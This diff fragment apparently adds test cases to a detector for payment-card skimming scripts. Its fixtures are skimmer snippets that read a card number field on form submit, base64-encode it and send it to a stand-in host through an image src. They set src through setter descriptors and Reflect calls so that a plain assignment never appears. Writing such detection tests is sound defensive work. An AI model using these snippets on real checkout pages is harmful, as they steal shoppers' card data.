@@ -35,6 +35,35 @@ describe('sends the first look cannot name', () => {
   })
 })
 
+describe('a property written through its own setter, not an assignment', () => {
+  const send = (write: string): string => `var card = document.querySelector('#cc_number')
+    var desc = Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src')
+    var set = desc.set
+    card.form.addEventListener('submit', function () {
+      var img = document.createElement('img'), u = 'https://px.media-cdn.example/i.gif?d=' + btoa(card.value)
+      ${write}
+    })`
+  it.each([
+    ['set.call(element, value)', 'set.call(img, u)'],
+    ['set.apply(element, [value])', 'set.apply(img, [u])'],
+    ['Reflect.apply(set, element, [value])', 'Reflect.apply(set, img, [u])'],
+    [
+      'the descriptor read in place',
+      "Object.getOwnPropertyDescriptor(HTMLImageElement.prototype, 'src').set.call(img, u)",
+    ],
+    ["Reflect.set(element, 'src', value)", "Reflect.set(img, 'src', u)"],
+  ])('%s is a write of src', (_, write) => {
+    expect(rules(send(write))).toContain('card-field-read-and-send')
+  })
+
+  it("another property's setter writes that property, not src", () => {
+    const source = send(
+      'Object.getOwnPropertyDescriptor(HTMLElement.prototype, "title").set.call(img, u)',
+    )
+    expect(rules(source)).not.toContain('card-field-read-and-send')
+  })
+})
+
 describe('reads of the whole checkout form', () => {
   const send = (form: string): string =>
     `jQuery(function ($) { $(document.body).on('checkout_place_order', function () {
